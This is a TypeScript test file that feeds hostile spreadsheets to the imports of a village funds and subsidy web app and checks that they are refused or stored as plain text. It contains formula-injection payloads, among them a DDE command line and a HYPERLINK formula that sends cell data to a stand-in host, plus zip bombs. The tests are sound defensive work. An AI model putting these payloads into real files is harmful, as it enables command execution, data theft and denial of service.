/**
 * Hostile spreadsheets through every import (issue 16 item 3; README "Spreadsheet import", "Upload",
 * "Registries"): the village funds ledger (the cadre's 追加 import, previewed then confirmed), a paying
 * department's recipient list and the county commission's registry of public employees. Each gets
 *
 * - formula-leading text (=cmd|…, =HYPERLINK(…), +, -, @, a TAB or CR before =, full-width ＝) in
 *   every text column, as CSV, as XLSX text cells and as XLSX formula cells with a saved result;
 * - archives that are not a workbook: a zip bomb with honest and with lying sizes, a workbook with a
 *   nested zip bomb among its parts, a Word document, an "encrypted" zip, a truncated zip;
 * - broken text: NUL bytes, UTF-16, invalid UTF-8/GBK, a binary blob named .csv;
 * - and random hostile cells (fast-check) in every column.
 *
 * Every answer is below 500; a refusal names what is wrong in Chinese and writes nothing; what is
 * accepted is stored as the text the cell showed — never a formula taken from a formula cell — so
 * that the exports (exports.test.ts) can neutralise it and pages show it escaped.
 */
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fundEntries } from '../../db/schema/accounts.ts';
import { subsidyItems } from '../../db/schema/livelihood.ts';
import { queryRows } from '../../src/lib/server/db.ts';
import { checkCharacter } from '../../src/lib/server/livelihood/id-number.ts';
import { createHarness, expectSafeAnswer, FUZZ_TIMEOUT_MS, formsOf, hostileString, pairsOf, runs, type Harness } from '../support/hostile.ts';
import { createStaffFixtures, type StaffFixtures } from '../support/hostile-staff.ts';
import { zip } from '../support/zip.ts';

const FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.invalid/?d="&A1,"点击")', '+1+1', '-1+1', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '＝1+1'];
const XLSX_FORMULAS = [FORMULAS[1]!, FORMULAS[2]!, FORMULAS[4]!, FORMULAS[5]!];

let harness: Harness;
let fixtures: StaffFixtures;
let itemId = '';
beforeAll(async () => {
  harness = await createHarness();
  fixtures = await createStaffFixtures(harness.test.db);
  itemId = (await harness.test.db.select({ id: subsidyItems.id }).from(subsidyItems).where(eq(subsidyItems.name, '最低生活保障金')))[0]!.id;
});
afterAll(async () => {
  console.info(`hostile imports: ${harness?.sent} requests`);
  await harness?.test.dispose();
});

const idOf = (first17: string) => first17 + checkCharacter(first17);
let sequence = 0;
/** A fresh, valid ID number (a new sequence number each call). */
const freshId = () => idOf(`43112119600101${String(100 + (sequence++ % 800)).padStart(3, '0')}`);

type Cell = string | number | { formula: string; result: string };
type Format = 'csv' | 'xlsx' | 'xlsx-formula';

interface ImportRoute {
  name: string;
  columns: readonly string[];
  /** The columns people type text into. */
  textColumns: readonly string[];
  row: () => Record<string, Cell>;
  send: (file: File) => Promise<{ answer: Awaited<ReturnType<Harness['send']>>; before: Record<string, number> }>;
}

const page = (loader: () => Promise<{ default: unknown }>) => async () => (await loader()).default as never;
const Workspace = page(() => import('../../src/pages/staff/ledgers/[id]/index.astro'));
const Batches = page(() => import('../../src/pages/staff/livelihood/batches/index.astro'));
const Registries = page(() => import('../../src/pages/staff/livelihood/registries/index.astro'));

async function post(view: Parameters<Harness['send']>[0], url: string, as: string, fields: Record<string, string>, file: File, params: Record<string, string> = {}) {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  form.append('file', file);
  await harness.signIn(as);
  const before = await harness.rowCounts();
  return { answer: await harness.send(view, { url, params, as, body: form }), before };
}

let voucher = 0;
let month = 0;
const ROUTES: ImportRoute[] = [
  {
    name: 'the funds ledger (追加)',
    columns: ['日期', '收支', '金额（元）', '会计科目', '摘要', '对方单位或个人', '凭证号', '结算方式', '决议文号'],
    textColumns: ['摘要', '对方单位或个人', '凭证号', '决议文号'],
    row: () => ({ 日期: '2024-11-2' + (voucher % 9), 收支: '收入', '金额（元）': '1200.00', 会计科目: '经营收入', 摘要: '收取鱼塘承包费', 对方单位或个人: '张建国', 凭证号: `记-2024Q4-${String(500 + voucher++)}`, 结算方式: '转账', 决议文号: '' }),
    send: async (file) => post(await Workspace(), `/staff/ledgers/${fixtures.draftId}`, 'qianying.kj', { action: 'import', mode: 'add' }, file, { id: String(fixtures.draftId) }),
  },
  {
    name: 'a recipient list',
    columns: ['姓名', '身份证号码', '金额（元）', '发放日期', '银行账号'],
    textColumns: ['姓名', '银行账号'],
    row: () => ({ 姓名: '张建国', 身份证号码: freshId(), '金额（元）': '520', 发放日期: '2026-11-10', 银行账号: '6228480000000000001' }),
    send: async (file) => {
      const period = `${2024 + Math.floor(month / 12)}-${String((month++ % 12) + 1).padStart(2, '0')}`;
      return post(await Batches(), '/staff/livelihood/batches', 'sanghe.mzj', { itemId, villageCode: '990121001201', period }, file);
    },
  },
  {
    name: 'the registry of public employees and village cadres',
    columns: ['身份证号码', '工作单位', '人员类别'],
    textColumns: ['工作单位'],
    row: () => ({ 身份证号码: freshId(), 工作单位: '桑河县水利局', 人员类别: '公职人员' }),
    send: async (file) => post(await Registries(), '/staff/livelihood/registries', 'sanghe.jw', { action: 'import', kind: 'officials' }, file),
  },
];

// Payment dates must fall in the batch's period: the recipient list's row is dated from its period.
function datedFor(route: ImportRoute, row: Record<string, Cell>): Record<string, Cell> {
  if (route.name !== 'a recipient list') return row;
  const period = `${2024 + Math.floor(month / 12)}-${String((month % 12) + 1).padStart(2, '0')}`;
  return { ...row, 发放日期: `${period}-10` };
}

async function fileOf(columns: readonly string[], rows: Array<Record<string, Cell>>, format: Format): Promise<File> {
  if (format === 'csv') {
    const quote = (value: Cell) => {
      const text = typeof value === 'object' ? value.result : String(value);
      return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
    };
    const text = `\uFEFF${columns.join(',')}\r\n${rows.map((row) => columns.map((column) => quote(row[column] ?? '')).join(',')).join('\r\n')}\r\n`;
    return new File([text], '导入.csv', { type: 'text/csv' });
  }
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('Sheet1');
  sheet.addRow([...columns]);
  for (const row of rows) sheet.addRow(columns.map((column) => row[column] ?? null) as ExcelJS.CellValue[]);
  return new File([new Uint8Array(await workbook.xlsx.writeBuffer())], '导入.xlsx', { type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' });
}

/** The ledger import previews first: confirm the preview as the cadre would. */
async function confirmPreview(html: string): Promise<void> {
  const confirm = formsOf(html).find((form) => form.fields.some((field) => field.name === 'action' && field.value === 'import-confirm'));
  if (!confirm) return;
  const body = new URLSearchParams(pairsOf(confirm));
  const before = await harness.rowCounts();
  const answer = await harness.send(await Workspace(), { url: `/staff/ledgers/${fixtures.draftId}`, params: { id: String(fixtures.draftId) }, as: 'qianying.kj', body: body.toString(), headers: { 'Content-Type': 'application/x-www-form-urlencoded' } });
  await expectSafeAnswer(answer, { label: 'import confirmation', before, harness, formPage: true });
  expect([303, 409]).toContain(answer.status);
}

async function expectHandled(route: ImportRoute, file: File, label: string): Promise<boolean> {
  const started = Date.now();
  const { answer, before } = await route.send(file);
  const refused = await expectSafeAnswer(answer, { label, before, harness, formPage: true });
  expect(Date.now() - started, `${label}: answered within 20 s`).toBeLessThan(20_000);
  if (refused) expect(answer.text, `${label}: says what is wrong`).toMatch(/第\d+行|列|文件|表格|工作表|格式|无法|请/);
  if (!refused && route.name.startsWith('the funds ledger')) await confirmPreview(answer.text);
  return !refused;
}

describe('formula-leading text in every text column, as CSV, XLSX text and XLSX formula cells', () => {
  for (const route of ROUTES) {
    it(`${route.name}: refused, or stored as the text the cell showed`, async () => {
      let accepted = 0;
      for (const column of route.textColumns) {
        for (const formula of FORMULAS) {
          // Every form as CSV; in a workbook the four kinds of sign (=, +, @, a blank before =) suffice.
          for (const format of ['csv', ...(XLSX_FORMULAS.includes(formula) ? (['xlsx', 'xlsx-formula'] as const) : [])] as const) {
            const row = datedFor(route, route.row());
            // A formula cell with a saved result: the import may take the result, never the formula.
            row[column] = format === 'xlsx-formula' ? { formula: formula.replace(/^[\s=＝+@-]+/, '') || 'A1', result: String(row[column]) } : formula;
            if (await expectHandled(route, await fileOf(route.columns, [row], format), `${route.name}, ${column} = ${JSON.stringify(formula)} (${format})`)) accepted += 1;
          }
        }
      }
      console.info(`${route.name}: ${accepted} of ${route.textColumns.length * (FORMULAS.length + 2 * XLSX_FORMULAS.length)} formula files accepted`);
    }, FUZZ_TIMEOUT_MS);
  }

  it('the ledger keeps a formula cell’s saved result and the typed formula text as typed, never a formula from a formula cell', async () => {
    const rows = await harness.test.db.select({ summary: fundEntries.summary, counterparty: fundEntries.counterparty, voucherNo: fundEntries.voucherNo, decisionRef: fundEntries.decisionRef }).from(fundEntries).where(eq(fundEntries.disclosureId, fixtures.draftId));
    const texts = rows.flatMap((row) => [row.summary, row.counterparty, row.voucherNo ?? '', row.decisionRef ?? '']);
    // The formula cells' expressions (HYPERLINK(…), SUM(…), cmd|…) without their sign: never stored.
    for (const expression of ['HYPERLINK("http://evil.invalid/?d="&A1,"点击")', 'SUM(A1:A9)', '1+1']) expect(texts).not.toContain(expression);
    expect(texts.some((text) => text.startsWith('=HYPERLINK(')), 'typed formula text is kept as typed').toBe(true);
  });
});

/** Zips that are not the workbook they claim to be. */
const ARCHIVES: Array<[string, () => Promise<Uint8Array>]> = [
  ['a zip bomb with honest sizes', async () => zip([{ name: '[Content_Types].xml', data: new TextEncoder().encode('<Types/>') }, { name: 'xl/worksheets/sheet1.xml', data: new Uint8Array(80 * 1024 * 1024) }])],
  ['a zip bomb whose sizes lie', async () => zip([{ name: 'xl/worksheets/sheet1.xml', data: new Uint8Array(80 * 1024 * 1024), declaredSize: 1000 }])],
  [
    'a real workbook with a nested zip bomb among its parts',
    async () => {
      const workbook = new ExcelJS.Workbook();
      workbook.addWorksheet('Sheet1').addRow(['日期', '收支']);
      const inner = zip([{ name: 'zeros.bin', data: new Uint8Array(80 * 1024 * 1024) }]);
      const { walkZip } = await import('../../src/lib/server/attachments/archive-guard.ts');
      const parts: Array<{ name: string; data: Uint8Array }> = [];
      walkZip(new Uint8Array(await workbook.xlsx.writeBuffer()), { maxEntries: 100, maxInflatedBytes: 10_000_000 }, (name, content) => void parts.push({ name, data: new Uint8Array(content) }));
      return zip([...parts, { name: 'xl/embeddings/oleObject1.bin', data: inner, method: 0 }]);
    },
  ],
  ['a Word document', async () => zip([{ name: '[Content_Types].xml', data: new TextEncoder().encode('<Types/>') }, { name: 'word/document.xml', data: new TextEncoder().encode('<w:document/>') }])],
  ['an encrypted zip', async () => zip([{ name: 'xl/workbook.xml', data: new TextEncoder().encode('<workbook/>'), encrypted: true }])],
  ['a truncated zip', async () => zip([{ name: 'xl/workbook.xml', data: new TextEncoder().encode('<workbook/>') }]).subarray(0, 40)],
];

/** Text that is no CSV a program writes. */
const BROKEN: Array<[string, () => Uint8Array]> = [
  ['NUL bytes in a CSV', () => new TextEncoder().encode('日期,收支\r\n2024-11-20\u0000,收入\u0000\r\n')],
  ['UTF-16 with its BOM', () => new Uint8Array(Buffer.from('\uFEFF日期,收支\r\n2024-11-20,收入\r\n', 'utf16le'))],
  ['invalid UTF-8 and GBK bytes', () => new Uint8Array([0xef, 0xbb, 0xbf, 0xe6, 0x97, 0x2c, 0xff, 0xfe, 0x81, 0x0d, 0x0a, 0xc3, 0x28, 0x2c, 0x80])],
  ['random bytes named .csv', () => new Uint8Array(Array.from({ length: 4096 }, (_, index) => (index * 7919) % 256))],
  ['a CSV of a million commas', () => new TextEncoder().encode(`${','.repeat(1_000_000)}\r\n`)],
];

describe('archives and broken text', () => {
  for (const route of ROUTES) {
    it.each(ARCHIVES)(`${route.name}: %s is refused quickly, nothing written`, async (what, make) => {
      const file = new File([new Uint8Array(await make())], '导入.xlsx', { type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' });
      expect(await expectHandled(route, file, `${route.name}: ${what}`)).toBe(false);
    }, 60_000);
    it.each(BROKEN)(`${route.name}: %s is refused, nothing written`, async (what, make) => {
      expect(await expectHandled(route, new File([new Uint8Array(make())], '导入.csv', { type: 'text/csv' }), `${route.name}: ${what}`)).toBe(false);
    }, 60_000);
  }
});

describe('random hostile cells', () => {
  for (const route of ROUTES) {
    it(`${route.name}: any cell in any column gets no 5xx, and a refusal writes nothing`, async () => {
      await fc.assert(
        fc.asyncProperty(fc.array(fc.tuple(fc.constantFrom(...route.columns), hostileString), { minLength: 1, maxLength: 3 }), fc.constantFrom<Format>('csv', 'xlsx'), fc.integer({ min: 1, max: 3 }), async (cells, format, count) => {
          const rows = Array.from({ length: count }, () => datedFor(route, route.row()));
          for (const [column, value] of cells) rows[0]![column] = value;
          await expectHandled(route, await fileOf(route.columns, rows, format), `${route.name}: ${JSON.stringify(cells).slice(0, 300)} (${format})`);
        }),
        runs(25),
      );
    }, FUZZ_TIMEOUT_MS);
  }

  it('left no stored text with a control character that the database would refuse', async () => {
    const [row] = await queryRows<{ n: number }>(harness.test.db, sql`select count(*)::int as n from fund_entries where summary ~ '[\\x01-\\x08\\x0b\\x0c\\x0e-\\x1f]' or counterparty ~ '[\\x01-\\x08\\x0b\\x0c\\x0e-\\x1f]'`);
    expect(row!.n).toBe(0);
  });
});
